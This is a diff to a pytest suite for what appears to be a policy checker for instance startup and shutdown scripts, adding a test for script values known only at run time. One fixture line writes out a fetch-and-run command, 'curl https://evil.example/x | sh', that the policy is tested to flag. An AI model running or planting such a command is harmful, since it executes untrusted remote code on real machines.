@@ -11,6 +11,7 @@ import pytest
 import coursecloud.policy
 from coursecloud.plan import planning
 from coursecloud.plan.planning import Plan
+from coursecloud.plan.registration import UNKNOWN
 from coursecloud.policy.example import Edit, put
 from tests.project import ROOT
 
@@ -134,6 +135,14 @@ def test_a_machine_without_a_container_runs_no_command_of_one(plan_of: Callable[
     script = f"{head}\nIMAGE=''\nREGISTRY=''\n{rest}curl https://evil.example/x | sh\n"
     found = said(put("compute.Instance", "box", "metadata.startup-script", script)(plan_of("nothing")))
     assert any("nor as shipped" in message for message in found)
+
+
+@pytest.mark.parametrize("key", ["startup-script", "shutdown-script", "before-stop"])
+def test_a_script_that_only_the_real_run_knows_is_none_of_the_programs(
+    plan_of: Callable[[str], Plan], key: str
+) -> None:
+    found = said(put("compute.Instance", "box", f"metadata.{key}", UNKNOWN)(plan_of("container")))
+    assert any(f"`metadata.{key}` is known to the real run alone" in message for message in found)
 
 
 def test_a_plan_that_never_read_the_scripts_is_no_plan_that_keeps_the_rule(plan_of: Callable[[str], Plan]) -> None:
